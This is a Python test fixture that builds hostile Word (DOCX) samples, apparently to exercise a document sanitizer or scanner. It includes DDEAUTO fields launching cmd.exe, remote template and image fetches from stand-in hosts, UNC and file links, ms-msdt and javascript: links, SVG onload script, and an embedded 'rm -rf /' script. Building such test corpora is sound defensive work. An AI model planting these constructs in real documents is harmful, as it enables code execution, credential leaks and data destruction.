"""Hostile DOCX: fields and relationships that fetch, objects of other programs, templates, foreign formats."""

from tests import files
from tests.documents.files.corpus.packages import (
    EMPTY_RELATIONS,
    MICROSOFT,
    WORD,
    edited,
    field,
    mark,
    related,
    word,
)

LETTER = files.docx("Surat")
OLE = files.ole("\x01CompObj", "Equation Native")
HTML = "<html><body><img src='http://contoh.invalid/a.png'></body></html>"
SETTINGS = "word/settings.xml"


def inside(kind: str, path: str, content: str | bytes, **more: str) -> bytes:
    """A letter with a part of its own that it relates to."""
    return files.with_parts(related(LETTER, WORD, kind, path.removeprefix("word/"), **more), {path: content})


def linked(target: str, mode: str = "External") -> bytes:
    return related(LETTER, WORD, "hyperlink", target, mode)


SIMPLE_DDE = '<w:fldSimple w:instr=" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot; "/>'
QUOTED = word(
    mark("begin")
    + mark("begin")
    + "<w:r><w:instrText> QUOTE 68 68 69 65 85 84 79 </w:instrText></w:r>"
    + mark("separate")
    + "<w:r><w:t>DDEAUTO</w:t></w:r>"
    + mark("end")
    + "<w:r><w:instrText> c:\\cmd.exe </w:instrText></w:r>"
    + mark("end")
)
NESTED = word(
    mark("begin")
    + '<w:r><w:instrText> IF 1 = 1 "</w:instrText></w:r>'
    + mark("begin")
    + "<w:r><w:instrText> DDEAUTO a b </w:instrText></w:r>"
    + mark("separate")
    + mark("end")
    + '<w:r><w:instrText>" "tidak" </w:instrText></w:r>'
    + mark("separate")
    + mark("end")
)
UNCLOSED = word(mark("begin") + '<w:r><w:instrText> INCLUDEPICTURE "http://contoh.invalid/" </w:instrText></w:r>')
VIDEO = (
    '<w:r><w:drawing><wp15:webVideoPr xmlns:wp15="http://schemas.microsoft.com/office/word/2012/wordprocessingDrawing" '
    'embeddedHtml="&lt;iframe src=&quot;http://contoh.invalid&quot;&gt;"/></w:drawing></w:r>'
)
CASES = [
    ("fields", "ddeauto.docx", field(" DDEAUTO c:\\windows\\system32\\cmd.exe &quot;/k calc&quot; ")),
    ("fields", "dde.docx", field(' DDE Excel "C:\\a.xlsx" ')),
    ("fields", "dde-terpecah.docx", field(" D", "DE", "AU", "TO c:\\cmd.exe ")),
    ("fields", "dde-huruf-kecil.docx", field("\u00a0\tddeAuto c:\\cmd.exe")),
    ("fields", "dde-referensi.docx", field(" &#68;&#x44;EAUTO c:\\cmd.exe ")),
    ("fields", "dde-sederhana.docx", word(SIMPLE_DDE)),
    ("fields", "dde-quote.docx", QUOTED),
    ("fields", "tidak-ditutup.docx", UNCLOSED),
    ("fields", "nama-dikutip.docx", field(' "INCLUDEPICTURE" "http://contoh.invalid/a.png" ')),
    ("fields", "includepicture.docx", field(' INCLUDEPICTURE "http://contoh.invalid/a.png" \\d ')),
    ("fields", "includepicture-unc.docx", field(' INCLUDEPICTURE "\\\\\\\\contoh.invalid\\\\a.png" ')),
    ("fields", "includetext.docx", field(' INCLUDETEXT "file:///c:/rahasia.docx" ')),
    ("fields", "include.docx", field(' INCLUDE "c:\\a.doc" ')),
    ("fields", "import.docx", field(' IMPORT "\\\\contoh.invalid\\a.wmf" ')),
    ("fields", "link.docx", field(' LINK Excel.Sheet.12 "c:\\a.xlsx" "Lembar!A1" \\a ')),
    ("fields", "database.docx", field(' DATABASE \\d "c:\\a.mdb" \\c "DSN=a" \\s "SELECT 1" ')),
    ("fields", "rd.docx", field(' RD "\\\\contoh.invalid\\a.docx" ')),
    ("fields", "macrobutton.docx", field(" MACROBUTTON Jalankan klik ")),
    ("fields", "di-dalam-if.docx", NESTED),
    (
        "fields",
        "dihapus.docx",
        word(f"{mark('begin')}<w:del><w:r><w:delInstrText> DDE a b </w:delInstrText></w:r></w:del>{mark('end')}"),
    ),
    (
        "fields",
        "di-kepala.docx",
        files.with_parts(
            files.docx("a", header="Dinas"), {"word/header9.xml": files.parts_of(field(" DDE a b "))[WORD]}
        ),
    ),
    ("local_links", "tautan-berkas.docx", linked("file:///C:/Windows/System32/calc.exe")),
    ("local_links", "tautan-unc.docx", linked("\\\\contoh.invalid\\bagi\\a.docx")),
    ("local_links", "tautan-unc-miring.docx", linked("//contoh.invalid/bagi/a.docx")),
    ("local_links", "tautan-berkas-server.docx", linked("FILE://contoh.invalid/bagi/a.docx")),
    ("local_links", "tautan-drive.docx", linked("C:\\Windows\\System32\\calc.exe")),
    ("local_links", "tautan-persen.docx", linked("%66ile:///C:/a.exe")),
    ("local_links", "tautan-spasi.docx", linked("  &#9;file:///C:/a.exe")),
    ("local_links", "tautan-msdt.docx", linked("ms-msdt:/id PCWDiagnostic")),
    ("local_links", "tautan-search.docx", linked("search-ms:query=a&amp;crumb=location:\\\\contoh.invalid")),
    ("local_links", "tautan-skrip.docx", linked("javascript:alert(1)")),
    ("local_links", "tautan-vml.docx", word('<v:shape href="file:///C:/a.exe"/>')),
    ("local_links", "field-hyperlink.docx", field(' HYPERLINK "file:///C:/a.exe" ')),
    (
        "local_links",
        "dasar-tautan.docx",
        edited(
            LETTER,
            "docProps/app.xml",
            "</Properties>",
            "<HyperlinkBase>\\\\contoh.invalid\\a\\</HyperlinkBase></Properties>",
        ),
    ),
    (
        "external_content",
        "templat-unc.docx",
        related(LETTER, SETTINGS, "attachedTemplate", "\\\\a\\b.dotm", "External"),
    ),
    (
        "external_content",
        "templat-web.docx",
        related(LETTER, SETTINGS, "attachedTemplate", "http://a.invalid/b.dotm", "External"),
    ),
    (
        "external_content",
        "bingkai.docx",
        related(LETTER, "word/webSettings.xml", "frame", "http://a.invalid/", "External"),
    ),
    (
        "external_content",
        "ole-luar.docx",
        related(LETTER, WORD, "oleObject", "mhtml:http://a.invalid!x-usc:http://a", "External"),
    ),
    ("external_content", "subdokumen.docx", related(LETTER, WORD, "subDocument", "file:///c:/a.docx", "External")),
    ("external_content", "tanpa-mode.docx", related(LETTER, WORD, "image", "http://contoh.invalid/a.png")),
    ("external_content", "tanpa-mode-unc.docx", related(LETTER, WORD, "image", "\\\\contoh.invalid\\a.png")),
    (
        "external_content",
        "vml-catatan.docx",
        word('<w:pict xmlns:o="o"><v:imagedata o:href="http://contoh.invalid/a.png"/></w:pict>'),
    ),
    (
        "external_content",
        "jenis-karangan.docx",
        related(LETTER, WORD, "hyperlink", "http://contoh.invalid/a", "External", "http://contoh.invalid"),
    ),
    ("external_content", "vml.docx", word('<w:pict><v:imagedata src="http://contoh.invalid/a.png"/></w:pict>')),
    ("external_content", "vml-unc.docx", word('<w:pict><v:fill src="\\\\contoh.invalid\\a.png"/></w:pict>')),
    (
        "external_content",
        "skema.docx",
        edited(
            LETTER,
            SETTINGS,
            "</w:settings>",
            '<sl:schemaLibrary xmlns:sl="http://schemas.openxmlformats.org/schemaLibrary/2006/main">'
            '<sl:schema sl:uri="a" sl:manifestLocation="http://contoh.invalid/m.xml"/></sl:schemaLibrary></w:settings>',
        ),
    ),
    (
        "connections",
        "surat-massal.docx",
        edited(
            LETTER,
            SETTINGS,
            "</w:settings>",
            '<w:mailMerge><w:connectString w:val="Provider=SQLOLEDB;Server=a"/></w:mailMerge></w:settings>',
        ),
    ),
    ("foreign_part", "altchunk.docx", inside("aFChunk", "word/a.htm", HTML)),
    ("foreign_part", "altchunk-rtf.docx", inside("aFChunk", "word/a.rtf", "{\\rtf1 isi}")),
    ("foreign_part", "altchunk-mht.docx", inside("aFChunk", "word/a.mht", "MIME-Version: 1.0\r\n\r\n" + HTML)),
    ("foreign_part", "altchunk-xml.docx", inside("aFChunk", "word/a.xml", "<a/>")),
    ("foreign_part", "html-tersembunyi.docx", files.with_parts(LETTER, {"word/media/a.png": HTML})),
    ("foreign_part", "rtf-tersembunyi.docx", files.with_parts(LETTER, {"word/media/a.png": b"{\\rt isi}"})),
    ("ole_objects", "rumus-lama.docx", inside("oleObject", "word/embeddings/oleObject1.bin", OLE)),
    ("ole_objects", "ole-nama-lain.docx", files.with_parts(LETTER, {"word/media/gambar.png": OLE})),
    ("ole_objects", "ole-jenis-lain.docx", inside("oleObject", "word/embeddings/a.bin", b"bukan OLE")),
    ("ole_objects", "paket-ole.docx", inside("package", "word/embeddings/a.bin", OLE)),
    (
        "macros",
        "makro-nama-lain.docx",
        inside("vbaProject", "word/a.bin", b"isi", prefix=f"{MICROSOFT}/2006/relationships"),
    ),
    (
        "macros",
        "pita.docx",
        inside("extensibility", "customUI/a.xml", "<a/>", prefix=f"{MICROSOFT}/2006/relationships/ui"),
    ),
    (
        "macros",
        "bilah.docx",
        inside("keyMapCustomizations", "word/a.xml", "<a/>", prefix=f"{MICROSOFT}/2006/relationships"),
    ),
    ("active_content", "kendali.docx", inside("control", "word/a.xml", "<a/>")),
    (
        "active_content",
        "add-in.docx",
        inside("webextensiontaskpanes", "word/t.xml", "<a/>", prefix=f"{MICROSOFT}/2011/relationships"),
    ),
    ("active_content", "video-web.docx", word(VIDEO)),
    (
        "embedded_files",
        "pintasan.docx",
        files.with_parts(LETTER, {"word/media/a.png": b"L\0\0\0\x01\x14\x02\0" + bytes(70)}),
    ),
    ("embedded_files", "skrip.docx", files.with_parts(LETTER, {"word/media/a.bin": b"#!/bin/sh\nrm -rf /"})),
    ("embedded_files", "kabinet.docx", files.with_parts(LETTER, {"word/media/a.png": b"MSCF\0\0\0\0" + bytes(70)})),
    (
        "external_content",
        "svg-luar.docx",
        files.with_parts(
            LETTER,
            {
                "word/media/a.svg": '<svg xmlns="http://www.w3.org/2000/svg" '
                'xmlns:x="http://www.w3.org/1999/xlink"><image x:href="http://contoh.invalid/a.png"/></svg>'
            },
        ),
    ),
    ("active_content", "svg-skrip.docx", files.with_parts(LETTER, {"word/media/a.svg": files.svg()})),
    (
        "active_content",
        "svg-peristiwa.docx",
        files.with_parts(LETTER, {"word/media/a.svg": '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'}),
    ),
    ("dangerous", "potongan.docx", files.with_parts(LETTER, {"word/document.xml/[0].piece": "<a/>"})),
    (
        "external_content",
        "relasi-paket.docx",
        files.with_parts(
            LETTER,
            {
                "word/_rels/a.xml.RELS": EMPTY_RELATIONS.replace(
                    "></R", '><Relationship Id="a" Type="a/image" Target="http://a.invalid" TargetMode="External"/></R'
                )
            },
        ),
    ),
]
